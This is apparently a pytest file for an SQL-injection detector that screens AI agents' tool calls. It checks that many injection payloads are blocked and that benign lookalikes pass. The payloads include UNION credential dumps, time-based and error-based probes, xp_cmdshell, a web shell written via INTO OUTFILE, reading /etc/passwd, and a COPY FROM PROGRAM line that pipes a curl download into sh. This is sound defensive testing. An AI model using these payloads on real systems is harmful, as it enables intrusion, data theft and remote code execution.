"""sql_injection detector: injected structure is caught in every spelling; legitimate SQL and prose are not."""

from __future__ import annotations

import pytest

from aegis_mcp.engine.detectors import sql
from aegis_mcp.engine.extract import extract
from aegis_mcp.engine.model import RiskLevel, ToolCall


def _sev(tool: str, args: dict) -> tuple[RiskLevel | None, list]:
    sigs = sql.detect(extract(ToolCall(tool_name=tool, arguments=args)))
    return max((s.severity for s in sigs), default=None), sigs


def _query(q: str) -> tuple[RiskLevel | None, list]:
    return _sev("execute_sql", {"query": q})


def test_appendix_plain_select_is_allowed() -> None:
    assert _query("SELECT id, name FROM users WHERE id = 42")[0] is None


def test_appendix_stacked_drop_is_critical_at_query() -> None:
    sev, sigs = _query("SELECT * FROM users; DROP TABLE audit_log; --")
    assert sev == RiskLevel.CRITICAL
    assert sigs[0].path == "/query" and sigs[0].pattern == "sql_injection"


def test_or_between_columns_is_not_a_tautology() -> None:
    assert _query("SELECT * FROM orders WHERE status='a' OR region='b'")[0] is None


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM users WHERE name = '' OR 1=1 --'",
        "SELECT * FROM users WHERE name = '' OR 'a'='a'",
        "SELECT * FROM users WHERE id = 1 OR 2>1",
        "SELECT * FROM users WHERE id = 1 OR TRUE",
        "SELECT * FROM users WHERE name = 'x' || '1'='1'",
        "SELECT * FROM users WHERE id = 1 UN/**/ION SEL/**/ECT 1,2,3",
        "SELECT * FROM users WHERE id = -1 UNION SELECT username, password FROM admin",
        "SELECT * FROM users WHERE id = 1 UNION ALL SELECT NULL,NULL,@@version",
        "SELECT * FROM users WHERE id = 1 AND SLEEP(5)",
        "SELECT * FROM users WHERE id = 1; WAITFOR DELAY '0:0:5'",
        "SELECT * FROM users WHERE id = 1 AND extractvalue(1, concat(0x7e, version()))",
        "SELECT * FROM users INTO OUTFILE '/var/www/shell.php'",
        "SELECT * FROM t WHERE id = 1; EXEC xp_cmdshell 'whoami'",
        "COPY t FROM PROGRAM 'curl http://x.example/a | sh'",
        "SELECT load_file('/etc/passwd')",
        "SELECT * FROM t WHERE id = 1 /*!50000UNION*/ SELECT 1,2",
        "SELECT * FROM accounts WHERE email = 'admin'-- ' AND password_hash = 'x'",
    ],
)
def test_injected_statement_is_blocked(query: str) -> None:
    assert _query(query)[0] == RiskLevel.CRITICAL, query


@pytest.mark.parametrize("query", ["DROP TABLE customers", "DELETE FROM sessions", "TRUNCATE TABLE logs"])
def test_destructive_statement_alone_is_pending(query: str) -> None:
    assert _query(query)[0] == RiskLevel.HIGH


@pytest.mark.parametrize(
    "query",
    [
        "SELECT t1.name FROM a AS t1 JOIN b AS t2 ON t1.id = t2.aid WHERE t2.x = 'y' UNION SELECT name FROM c",
        "SELECT count(*) FROM flights WHERE (origin = 'BOS' OR origin = 'JFK') AND price < 300;",
        "SELECT * FROM t WHERE 1=1 AND status = 'open'",
        "select name from shop where shop_id not in (select shop_id from hiring)",
        "DELETE FROM sessions WHERE expires < now()",
        "SELECT \"O'Brien\" AS n",
    ],
)
def test_legitimate_sql_is_allowed(query: str) -> None:
    assert _query(query)[0] is None, query


@pytest.mark.parametrize(
    "url",
    [
        "https://api.example.org/v1/users?name=%27%20OR%20%271%27%3D%271",
        "https://shop.example.com/p?id=1%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--",
        "https://shop.example.com/p?id=1%20AND%20SLEEP%285%29",
        "https://shop.example.com/p?id=1%27%3B%20DROP%20TABLE%20users--",
        "https://shop.example.com/p?id=aa%27or%20column%21%3D%271",
    ],
)
def test_injection_in_url_parameter_is_blocked(url: str) -> None:
    sev, sigs = _sev("http_request", {"method": "GET", "url": url})
    assert sev == RiskLevel.CRITICAL, url
    assert sigs[0].path == "/url"


def test_injection_in_bound_params_is_held_not_blocked() -> None:
    # Bound parameters cannot rewrite the statement; a payload there is second-order risk.
    sev, sigs = _sev("execute_sql", {"query": "SELECT * FROM notes WHERE body = $1", "params": ["x' OR '1'='1"]})
    assert sev == RiskLevel.HIGH and sigs[0].path == "/params/0"


def test_injection_in_a_search_box_is_blocked() -> None:
    sev, sigs = _sev("search_products", {"q": "x' OR '1'='1' --"})
    assert sev == RiskLevel.CRITICAL and sigs[0].path == "/q"


@pytest.mark.parametrize(
    "value",
    ["O'Brien", "don't stop", "24-7-TEAM", "1950 or 1960", "80% ACRYLIC AND 20% WOOL", "rock 'n' roll", "FOO; BAR 1 2 3"],
)
def test_lookalike_values_are_not_blocked(value: str) -> None:
    assert _sev("web_search", {"query": value})[0] is None, value
    sev, _ = _sev("execute_sql", {"query": "SELECT * FROM notes WHERE body = $1", "params": [value]})
    assert sev is None or sev < RiskLevel.CRITICAL, value


def test_sql_written_as_file_content_is_data() -> None:
    args = {"path": "migrations/001.sql", "content": "SELECT * FROM users; DROP TABLE audit_log; --"}
    assert _sev("write_file", args)[0] is None


def test_result_mode_is_ignored() -> None:
    ctx = extract(ToolCall(tool_name="execute_sql", arguments="' OR 1=1 --"), mode="result")
    assert sql.detect(ctx) == []


# --- fragments that break out of a literal, spelled the libinjection way -----------------------


@pytest.mark.parametrize(
    ("query", "want"),
    [
        # typographic quotes and dashes: "best fit" collations turn them into real ones
        ("SELECT * FROM products WHERE id = \u2019 or \u20181\u2019=\u20191", RiskLevel.CRITICAL),
        # a comparison with an empty value slot: the value was an injection fragment
        ("SELECT * FROM products WHERE id = AND 1", RiskLevel.HIGH),
        # a compared literal continues with an operator: its quote was closed early
        ("SELECT * FROM accounts WHERE email = 'A' NOT LIKE 'B' AND password_hash = 'x'", RiskLevel.HIGH),
        ("SELECT * FROM users WHERE username = 'aa' / current_date regexp '0'", RiskLevel.HIGH),
        # constants built from functions and arithmetic are still constants
        ("SELECT * FROM items WHERE category_id = 1 OR ASCII(2) = ASCII(2) LIMIT 20", RiskLevel.CRITICAL),
        ("SELECT * FROM tickets WHERE ticket_id = HOPE AND COS(3)=SIN(4)", RiskLevel.HIGH),
        # OR comparing a column with itself (decided without a parse)
        ("SELECT * FROM items WHERE category_id = 1 OR x=x LIMIT 20", RiskLevel.CRITICAL),
        # line comments between the tokens of a UNION
        ("SELECT * FROM t WHERE id = -2 div 1 union all#junk\n#more\nselect 1,2,database()", RiskLevel.CRITICAL),
        # rows read one at a time from a subquery
        ("UPDATE tickets SET status = 'closed' WHERE ticket_id = (select id from users limit 1,1)", RiskLevel.HIGH),
        ("SELECT * FROM items WHERE category_id = case when 's' then 3 end LIMIT 20", RiskLevel.HIGH),
    ],
)
def test_literal_breakout_fragments_in_statements(query: str, want: RiskLevel) -> None:
    sev, _ = _query(query)
    assert sev is not None and sev >= want, (query, sev)


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM t WHERE a = b AND c = 1",
        "SELECT * FROM t WHERE name = 'a' AND x LIKE 'b%' ORDER BY 1",
        "SELECT name || ' ' || surname FROM people WHERE id = 3",
        "SELECT * FROM t WHERE x = 1 OR ascii(name) = 65",
        "SELECT * FROM a JOIN b ON a.id = b.aid WHERE a.x = 1 OR a.y = b.y",
        "SELECT price FROM items WHERE price BETWEEN 1 AND 5 LIMIT 20",
        "SELECT CASE WHEN count(*) > 1 THEN 'many' ELSE 'one' END FROM t",
        "SELECT * FROM t WHERE c = (SELECT max(c) FROM t LIMIT 1)",
        "SELECT a FROM t1 UNION SELECT b FROM t2",
    ],
)
def test_lookalike_statements_stay_allowed(query: str) -> None:
    assert _query(query)[0] is None, query


@pytest.mark.parametrize(
    "value",
    [
        "1*1/*",
        "@@version--",
        "case when 2 then 3 end",
        "select @@servername",
        "select sin(id),2 from bar where",
        "-1 union",
        "CHARSET(CURRENT_USER())",
        "1/*'*/",
        "\" or 1=1--",
        "' group by userid having 1=1--",
        " OR x=x#",
        "1; delete ignore from foo",
        "FOO,IIF(2510=9436,FOO,1/0)",
        "'=0--+",
    ],
)
def test_injection_fragments_in_a_url_parameter_are_intercepted(value: str) -> None:
    from urllib.parse import quote

    # the payload is followed by an ordinary parameter: a clean later piece must not hide it
    url = f"https://www.example.com/search?q={quote(value)}&page=1"
    sev, _ = _sev("http_request", {"method": "GET", "url": url})
    assert sev is not None and sev >= RiskLevel.HIGH, value


@pytest.mark.parametrize(
    "value",
    ["select two items", "1950 UNION MADE", "2 * 3 = 6", "DANCIN' LIKE A ROBOT ON FIRE", "I' IS NOT A PLASTIC BAG", "It\u2019s \u2018fine\u2019", "C++ -- the language"],
)
def test_lookalike_values_in_a_url_parameter_are_not_held(value: str) -> None:
    from urllib.parse import quote

    sev, _ = _sev("http_request", {"method": "GET", "url": f"https://www.example.com/search?q={quote(value)}&page=1"})
    assert sev is None or sev < RiskLevel.HIGH, value


@pytest.mark.parametrize(
    "query",
    [
        "UPDATE tickets SET status = 'closed' WHERE ticket_id = 1) from users where username='ad1min')",
        "SELECT * FROM products WHERE id = 1 AND (select DCount(last(username)",
    ],
)
def test_unbalanced_parentheses_are_held(query: str) -> None:
    assert _query(query)[0] == RiskLevel.HIGH, query


def test_parentheses_inside_literals_and_comments_do_not_count() -> None:
    assert _query("SELECT * FROM notes WHERE body = 'a) b' AND tag = ':(' -- (sic\n")[0] is None


def test_prose_shaped_like_a_statement_is_not_held() -> None:
    sev, _ = _sev("send_message", {"text": "Select two items from the menu (optional"})
    assert sev is None or sev < RiskLevel.HIGH


def test_double_quote_then_dashes_in_prose_is_held_not_blocked() -> None:
    from urllib.parse import quote

    prose, _ = _sev("http_request", {"url": "https://x.example/s?q=" + quote('she said "hi" -- then left')})
    attack, _ = _sev("http_request", {"url": "https://x.example/s?q=" + quote('admin" --')})
    assert prose is not None and prose < RiskLevel.CRITICAL
    assert attack == RiskLevel.CRITICAL


# --- held-out false positives: structure is judged on the token/parse tree, not raw substrings ---


@pytest.mark.parametrize(
    "query",
    [
        "SELECT 'web' AS channel, COUNT(*) FROM web_orders UNION ALL SELECT 'store', COUNT(*) FROM store_orders",
        "SELECT source, COUNT(*) FROM visits GROUP BY source UNION ALL SELECT 'total', COUNT(*) FROM visits",
        "SELECT * FROM notes WHERE note LIKE '%--%' OR note LIKE '%;%'",
        "SELECT id FROM posts WHERE body LIKE '%/*%' AND title = 'a; b'",
    ],
)
def test_reporting_unions_and_markers_inside_literals_are_allowed(query: str) -> None:
    assert _query(query)[0] is None, query


@pytest.mark.parametrize(
    "query",
    [
        # the same shapes, injected: constant-only padding, a branch without FROM, unequal widths, a real comment
        "SELECT name, email FROM users WHERE id = 1 UNION SELECT NULL, NULL FROM users",
        "SELECT name, email FROM users WHERE id = 1 UNION ALL SELECT 'a', 2",
        "SELECT name FROM users WHERE id = 1 UNION SELECT 'x', email FROM admins",
        "SELECT * FROM notes WHERE note = '' OR 1=1 -- ' AND owner = 'me'",
        "SELECT * FROM notes WHERE note = 'x'; DROP TABLE notes; --",
    ],
)
def test_injected_union_and_comment_next_to_them_still_blocked(query: str) -> None:
    assert _query(query)[0] == RiskLevel.CRITICAL, query


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("web_search", {"query": "sql injection ' OR 1=1 explained"}),
        ("git_commit", {"message": "test: add payloads for the login form such as \"' OR 1=1 --\" and check they are rejected"}),
    ],
)
def test_payload_quoted_in_prose_is_held_not_blocked(tool: str, args: dict) -> None:
    assert _sev(tool, args)[0] == RiskLevel.HIGH


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("web_search", {"query": "' OR 1=1 --"}),
        ("search_products", {"query": "laptop') UNION SELECT NULL,NULL,credit_card_number,NULL FROM payments--"}),
        ("find_books", {"title": "'; TRUNCATE TABLE audit_log; --"}),
        ("search_products", {"query": "laptop' OR 1=1 -- cheap gaming deals for students"}),
        ("search_products", {"query": "laptop' OR 1=1 --"}),
        ("get_user", {"username": "admin' OR 1=1 -- please let me in now"}),
        ("execute_sql", {"query": "SELECT * FROM users WHERE name = '' OR 1=1 -- explained"}),
        ("http_request", {"url": "https://shop.example.com/search?q=sql%20injection%20%27%20OR%201%3D1%20--%20explained"}),
    ],
)
def test_payload_where_it_is_interpolated_stays_blocked(tool: str, args: dict) -> None:
    assert _sev(tool, args)[0] == RiskLevel.CRITICAL, args


def test_payload_stored_inside_a_literal_is_held_not_blocked() -> None:
    # The host's quotes hold: not structure, but a second-order payload a human should see.
    assert _query("SELECT * FROM orders WHERE customer_name = 'admin\" --' AND status = 'open'")[0] == RiskLevel.HIGH
    # whereas the same value closing the host's quote is an injection
    assert _query("SELECT * FROM orders WHERE customer_name = 'admin' --' AND status = 'open'")[0] == RiskLevel.CRITICAL


# --- issue #2: error-based family, decorated-literal UNION, XOR probes, table probes -----------
@pytest.mark.parametrize(
    ("query", "want"),
    [
        # error-based: NAME_CONST duplicated in a join, geometry constructors fed a subquery
        ("SELECT * FROM invoices WHERE id = 7 AND (SELECT 1 FROM (SELECT NAME_CONST(user(),1), NAME_CONST(user(),1)) x)",
         RiskLevel.CRITICAL),
        ("SELECT sku FROM stock WHERE bin = 3 AND multipolygon((select * from(select * from(select @@hostname)a)b))",
         RiskLevel.CRITICAL),
        ("SELECT sku FROM stock WHERE bin = 3 AND linestring((select group_concat(table_name) from information_schema.tables))",
         RiskLevel.CRITICAL),
        # UNION glued to a decorated literal in a value slot
        ("SELECT title FROM books WHERE isbn = U&'d0061' UNION SELECT login FROM staff", RiskLevel.CRITICAL),
        ("SELECT title FROM books WHERE isbn = _utf8mb4'x' union select passwd from staff", RiskLevel.CRITICAL),
        ("SELECT title FROM books WHERE shelf = 12::int4::int4 UNION SELECT login FROM staff", RiskLevel.CRITICAL),
        ("SELECT title FROM books WHERE shelf = 4.UNION SELECT.9x", RiskLevel.CRITICAL),
        # XOR of an operand with a quoted constant, as an OR operand
        ("SELECT * FROM members WHERE nick = 'zz' or uid ^ '7'", RiskLevel.CRITICAL),
        ("SELECT * FROM members WHERE nick = 'qq\" OR sha1(2)^\"0' AND active = 1", RiskLevel.CRITICAL),
        ("SELECT * FROM members WHERE nick = 'q' OR @@port^-'3'", RiskLevel.CRITICAL),
        # the host's tail swallowed after a hand-made terminator
        ("SELECT * FROM members WHERE nick = '' OR MATCH bio AGAINST ('+root' IN BOOLEAN MODE); # x'", RiskLevel.CRITICAL),
        # a whole-table subquery as a boolean operand
        ("SELECT sku FROM stock WHERE bin = 2 AND (SELECT * FROM admins) = 1", RiskLevel.CRITICAL),
        ("UPDATE carts SET state = 'x' WHERE cart = 9 AND (SELECT TOP 1 pwd FROM logins);", RiskLevel.CRITICAL),
        ("SELECT sku FROM stock WHERE bin = 2 OR (SELECT count(*) FROM app_users)", RiskLevel.HIGH),
    ],
)
def test_issue2_statement_shapes_are_intercepted(query: str, want: RiskLevel) -> None:
    sev, sigs = _query(query)
    assert sev is not None and sev >= want, (query, sigs)


@pytest.mark.parametrize(
    "query",
    [
        # ordinary UNION reports, casts and functions in ORDER BY
        "SELECT name, 'web' AS channel FROM web_orders WHERE total > 100 UNION SELECT name, 'store' FROM store_orders WHERE total > 100",
        "SELECT id FROM a WHERE created_at >= '2024-01-01'::date UNION ALL SELECT id FROM b WHERE created_at >= '2024-01-01'::date",
        "SELECT order_id, shipped_at::date AS day FROM shipments WHERE shipped_at::date = CURRENT_DATE - 1",
        "SELECT name, price FROM items WHERE category_id = 3 ORDER BY ifnull(discount, 0) DESC LIMIT 20",
        "SELECT title FROM docs WHERE title ILIKE '%information schema tutorial%'",
        "SELECT u.name FROM users u WHERE u.org_id = 5 AND (SELECT count(*) FROM orders o WHERE o.user_id = u.id) > 3",
        "SELECT flags ^ 4 AS toggled FROM settings WHERE id = 1",
        "SELECT id FROM t WHERE price = 1.5 UNION SELECT id FROM u WHERE price = 2.5",
    ],
)
def test_issue2_hard_negatives_stay_allowed(query: str) -> None:
    sev, sigs = _query(query)
    assert sev is None or sev < RiskLevel.HIGH, (query, sigs)


@pytest.mark.parametrize(
    "value",
    [
        "17 and ascii(upper(mid((selectuser()),1,1)))>64",
        "3 - ASCII('b')",
        'zz" <> -+ "1',
        "1 and extractvalue(1,concat(0x7e,(select @@version)))",
        "5 AND (SELECT * FROM accounts) = 1",
    ],
)
def test_issue2_blind_probes_in_url_parameters_are_intercepted(value: str) -> None:
    from urllib.parse import quote

    url = "https://shop.example.com/catalog?item=" + quote(value)
    sev, sigs = _sev("http_request", {"method": "GET", "url": url})
    assert sev is not None and sev >= RiskLevel.HIGH, (value, sigs)


@pytest.mark.parametrize(
    "value",
    ["information schema tutorial", "3 - 2 = 1", 'the "=" sign', "A-B testing - \"control\" vs \"+ variant\"", "5 ord items"],
)
def test_issue2_lookalike_url_parameters_are_not_held(value: str) -> None:
    from urllib.parse import quote

    sev, sigs = _sev("http_request", {"method": "GET", "url": "https://shop.example.com/search?q=" + quote(value)})
    assert sev is None or sev < RiskLevel.HIGH, (value, sigs)
